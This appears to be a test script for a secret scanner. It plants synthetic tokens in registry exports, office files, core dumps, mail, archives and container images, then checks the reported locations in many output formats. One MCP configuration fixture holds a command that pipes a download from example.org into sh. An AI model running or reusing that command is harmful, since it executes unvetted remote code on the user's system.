"""Documents in and outside of archives, configurations that reach their readers there, images for several platforms, and where all that is in every
format of report. Made here. Usage: documents.py NHISCAN; prints one "ok" or "not ok" for each."""
import csv
import gzip
import hashlib
import html
import io
import json
import os
import plistlib
import quopri
import re
import struct
import subprocess
import xml.etree.ElementTree

from packed import WORKFLOW, Suite, seen, tar, zipped

suite = Suite(__file__)
secret = suite.secret


def halves(name):
    return secret(name)[:20], secret(name)[20:]


def har():
    entry = {"request": {"method": "GET", "url": "https://api.example.org/", "headers": [{"name": "X-Token", "value": secret("har")}]}}
    return ('{"log": {"version": "1.2", "entries": [\n' + json.dumps(entry) + "\n]}}\n").encode()


def registry_hex(kind, text, width=60):
    """As regedit breaks it: two digits a byte, commas, a backslash at the end of a line."""
    out, line = "", '"Token"=hex(%d):' % kind
    for byte in text.encode("utf-16le"):
        if len(line) > width:
            out, line = out + line + "\\\r\n", "  "
        line += "%02x," % byte
    return out + line.rstrip(",") + "\r\n"


def registry(name, kind, text):
    return ("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Acme]\r\n\"Size\"=dword:00000001\r\n" +
            registry_hex(kind, text) + '"Plain"="%s"\r\n' % secret(name + " plain")).encode("utf-16")


def pptx():
    a, b = halves("pptx")
    xml = ('<?xml version="1.0"?><p:sld xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:p="http://schemas.openxmlformats.org/'
           'presentationml/2006/main"><a:p><a:r><a:t>first</a:t></a:r></a:p><a:p><a:r><a:t>token: %s</a:t></a:r><a:r><a:t>%s</a:t></a:r></a:p></p:sld>' % (a, b))
    return zipped([("[Content_Types].xml", "<Types/>"), ("ppt/slides/slide1.xml", xml)])


def xlsx():
    a, b = halves("xlsx")
    xml = ('<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>first</t></si>'
           '<si><r><t>token: %s</t></r><r><t>%s</t></r></si></sst>' % (a, b))
    return zipped([("[Content_Types].xml", "<Types/>"), ("xl/sharedStrings.xml", xml)])


def core_dump():  # an ELF header of type ET_CORE, and a page of the environment
    header = b"\x7fELF\2\1\1\0" + bytes(8) + struct.pack("<HHI", 4, 62, 1)
    return header.ljust(4096, b"\0") + b"PATH=/bin\0DO_TOKEN=" + secret("core").encode() + b"\0HOME=/\0" + os.urandom(4096)


def letter():
    """In one part, quoted-printable: a long line is cut in the middle of the secret."""
    body = quopri.encodestring(b"see below\n" + b"the new token of the production cluster is " + secret("letter").encode() + b" for now \xc3\xa4\n")
    assert secret("letter").encode() not in body
    return b"From: a@example.org\r\nSubject: x\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" + body


# name, bytes, secret, path inside, line, column
CASES = [
    ("har", har(), "har", None, 2, None),
    ("registry_string", registry("reg 1", 1, secret("reg 1") + "\0"), "reg 1", "HKEY_CURRENT_USER\\Software\\Acme", 1, 10),
    ("registry_list", registry("reg 7", 7, "first\0" + secret("reg 7") + "\0\0"), "reg 7", "HKEY_CURRENT_USER\\Software\\Acme", 2, 10),
    ("registry_plain", registry("reg 2", 2, "%PATH%\0"), "reg 2 plain", None, None, None),
    ("xml_plist", plistlib.dumps({"a": 1, "token": secret("plist")}), "plist", None, 8, 10),
    ("pptx", pptx(), "pptx", "ppt/slides/slide1.xml!/text", 2, 8),
    ("xlsx", xlsx(), "xlsx", "xl/sharedStrings.xml!/text", 2, 8),
    ("core_dump", core_dump(), "core", None, 1, None),
    ("letter", letter(), "letter", "part 1", 2, 44),
]
os.mkdir(suite.path("in"))
for name, data, *_ in CASES:
    suite.write("in/%s.bin" % name, data)
    suite.write("in/%s.tgz" % name, gzip.compress(tar([("a/%s.bin" % name, data)])))
report = suite.scan(suite.path("in"))[1]
places = [(tail, s["path"], s["line"], s["column"]) for tail, s in seen(report)]
for name, _, which, member, line, column in CASES:
    wrong = []
    for path in ("%s.bin" % name, "%s.tgz!/a/%s.bin" % (name, name)):
        path += "!/" + member if member else ""
        if not [p for p in places if p[0] == suite.tail(which) and p[1] == path and line in (None, p[2]) and column in (None, p[3])]:
            wrong.append("%s: seen %s" % (path, [p for p in places if p[1].startswith(path.split("!/")[0])]))
    suite.told("document_" + name, wrong)

# What an agent and an account are configured with is judged in an archive as on disk.
mcp = b"""{"mcpServers": {
  "far": {"url": "http://mcp.example.org/sse"},
  "down": {"command": "sh", "args": ["-c", "curl https://example.org/x | sh"]}
}}
"""
shop = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "testdata", "iam", "shop", "authorization-details.json")
with open(shop, "rb") as f:
    account = f.read()


def saved_image(path, data):  # as docker save writes it: a manifest, a configuration, a layer
    config = json.dumps({"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": []}, "history": [{"created_by": "COPY . /app"}]}).encode()
    manifest = json.dumps([{"Config": "config.json", "RepoTags": ["app:1"], "Layers": ["one/layer.tar"]}]).encode()
    return tar([("manifest.json", manifest), ("config.json", config), ("one/layer.tar", tar([("app/" + path, data)]))])


for name, path, data, rule in (("workflow", ".github/workflows/ci.yml", WORKFLOW, None), ("mcp", ".mcp.json", mcp, "agent-server-plain-http"), ("account", "authorization-details.json", account, "aws-administrator")):
    os.mkdir(suite.path(name))
    os.makedirs(os.path.dirname(suite.path("%s/%s" % (name, path))), exist_ok=True)
    suite.write("%s/%s" % (name, path), data)
    told = {}
    for how, target in (("disk", suite.path(name)), ("zip", suite.write(name + ".zip", zipped([("app/" + path, data)]))),
                        ("tar", suite.write(name + ".tar.gz", gzip.compress(tar([("app/" + path, data)])))),
                        ("layer", suite.write(name + "-image.tar", saved_image(path, data)))):
        _, r, _, _, _ = suite.scan(target)
        told[how] = sorted((f["rule"], s["line"], s["column"]) for f in r["findings"] for s in f["sightings"])
        if how != "disk" and [s["path"] for _, s in seen(r) if not s["path"].endswith("!/app/" + path)]:
            told[how].append("paths")
    wrong = [] if told["disk"] == told["zip"] == told["tar"] == told["layer"] else [str(told)]
    if not told["disk"] or (rule and rule not in [t[0] for t in told["disk"]]):
        wrong.append("no %s: %s" % (rule, told["disk"]))
    suite.told("reader_of_%s_in_an_archive" % name, wrong)


# An image for two platforms: one layer for both, one for each; each says of which image it is, its number and its command.
def sha(b):
    return hashlib.sha256(b).hexdigest()


shared = gzip.compress(tar([("etc/base.conf", b"x\n" + suite.line("base")), ("etc/old.conf", b"x\n" + suite.line("old"))]))
own = {"amd64": gzip.compress(tar([("app/amd64.conf", b"x\n" + suite.line("amd64")), ("etc/.wh.old.conf", b"")])),
       "arm64": gzip.compress(tar([("app/arm64.conf", b"x\n" + suite.line("arm64"))]))}
blobs, manifests = [shared, *own.values()], []
for platform, layer in own.items():
    config = json.dumps({"architecture": platform, "os": "linux", "config": {"Env": ["DO_TOKEN=" + secret("env " + platform)]},
                         "history": [{"created_by": "ADD base"}, {"created_by": "COPY " + platform}]}).encode()
    manifest = json.dumps({"schemaVersion": 2, "config": {"digest": "sha256:" + sha(config)},
                           "layers": [{"digest": "sha256:" + sha(b)} for b in (shared, layer)]}).encode()
    manifests.append({"digest": "sha256:" + sha(manifest), "platform": {"architecture": platform, "os": "linux"}})
    blobs += [config, manifest]
inner = json.dumps({"schemaVersion": 2, "manifests": manifests}).encode()
index = json.dumps({"schemaVersion": 2, "manifests": [{"digest": "sha256:" + sha(inner), "annotations": {"io.containerd.image.name": "shop/app:2.0"}}]}).encode()
files = [("oci-layout", b'{"imageLayoutVersion": "1.0.0"}'), ("index.json", index)] + [("blobs/sha256/" + sha(b), b) for b in blobs + [inner]]
_, report, _, _, _ = suite.scan(suite.write("platforms.tar", tar(files)))
found = {}
for tail, s in seen(report):
    found.setdefault(tail, []).append(s)
wrong = []
for what, number, command, fate in (("base", 1, "ADD base", "present"), ("amd64", 2, "COPY amd64", "present"), ("arm64", 2, "COPY arm64", "present")):
    s = found.get(suite.tail(what), [])
    got = [(x["layer"]["number"], x["layer"]["of"], x["layer"]["command"], x["layer"]["fate"], x["layer"]["image"]) for x in s if "layer" in x]
    if len(s) != 1 or got != [(number, 2, command, fate, "shop/app:2.0")]:
        wrong.append("%s: %s" % (what, got or s))
# In one platform it is there still.
s = found.get(suite.tail("old"), [])
if len(s) != 1 or s[0].get("layer", {}).get("fate") != "present":
    wrong.append("old: %s" % s)
wrong += ["%s is not found" % p for p in own if suite.tail("env " + p) not in found]
suite.told("image_of_several_platforms", wrong)

# The way to a member, two containers deep, with line and column, in every format.
way = "outer.zip!/lib/inner.tar.gz!/etc/app.env"
suite.write("outer.zip", zipped([("lib/inner.tar.gz", gzip.compress(tar([("etc/app.env", b"a=1\nb=2\n" + suite.line("everywhere"))])))]))


with open(os.open(suite.path("key"), os.O_CREAT | os.O_WRONLY, 0o600), "wb") as f:
    f.write(os.urandom(32))


def told_in(fmt):
    key = ["--fingerprint-key-file", suite.path("key")]
    p = subprocess.run([suite.program, "--format", fmt, *key, "--no-config", "outer.zip"], cwd=suite.folder, capture_output=True)
    return p.stdout.decode()


def walk(node):
    yield node
    for child in node.values() if isinstance(node, dict) else node if isinstance(node, list) else ():
        yield from walk(child)


def in_sarif(text):
    """The place of the outermost file, which viewers can open; the way to the member, and its own place as the first related one."""
    run = json.loads(text)["runs"][0]
    result, artifacts = run["results"][0], run["artifacts"]
    where, related = result["locations"][0], result["relatedLocations"][0]
    place = related["physicalLocation"]
    names, at = [], place["artifactLocation"]["index"]
    while at is not None:
        names.insert(0, artifacts[at]["location"]["uri"])
        at = artifacts[at].get("parentIndex")
    return (where["physicalLocation"]["artifactLocation"]["uri"] == "outer.zip" and where["logicalLocations"][0]["fullyQualifiedName"] == way and
            "!/".join(names) == way and (place["region"]["startLine"], place["region"]["startColumn"]) == (3, 9))


def in_csv(text):
    return any(way in row and "3" in row and "9" in row for row in csv.reader(io.StringIO(text)))


def in_junit(text):
    return any(way in " ".join([*e.attrib.values(), e.text or ""]) and re.search(r"\b3\b", " ".join([*e.attrib.values(), e.text or ""]))
               for e in xml.etree.ElementTree.fromstring(text).iter())


def in_json(text):
    return any(isinstance(n, dict) and n.get("path") == way and (n.get("line"), n.get("column")) == (3, 9) and n.get("member") == "etc/app.env" and
               n.get("containers") == ["outer.zip", "lib/inner.tar.gz"] for n in walk(json.loads(text)))


def in_lines(text):
    return any(in_json(line) for line in text.splitlines())


def in_gitlab(text):
    return any(isinstance(n, dict) and way in str(n.get("file", "")) and n.get("start_line") == 3 for n in walk(json.loads(text)))


def in_any_json(text):
    """Some object tells the whole way, and the line beside or in it."""
    return any(isinstance(n, (dict, list)) and way in json.dumps(n) and re.search(r'(?<!\d)3(?!\d)', json.dumps(n)) for n in walk(json.loads(text)))


LOCATIONS = {
    "text": lambda t: way + ":3:9" in t or (way in t and re.search(r"\b3:9\b", t)),
    "oneline": lambda t: way + ":3:9" in t,
    "json": in_json,
    "jsonl": in_lines,
    "sarif": in_sarif,
    "csv": in_csv,
    "junit": in_junit,
    "gitlab": in_gitlab,
    "github": lambda t: any("line=3" in line and "app.env" in line and "inner.tar.gz" in line for line in t.splitlines()),
    "markdown": lambda t: way + ":3" in html.unescape(t),
    "ocsf": lambda t: any(in_any_json(line) for line in ([t] if t.lstrip().startswith("[") else t.splitlines())),
    "oscal": in_any_json,
    "cyclonedx": in_any_json,
    "html": lambda t: way in t and re.search(r"\b3:9\b|line 3", t),
}  # a baseline holds fingerprints alone
for fmt, holds in LOCATIONS.items():
    text = told_in(fmt)
    suite.told("location_in_" + fmt, [] if text and holds(text) else [text[:1500]])
suite.end()
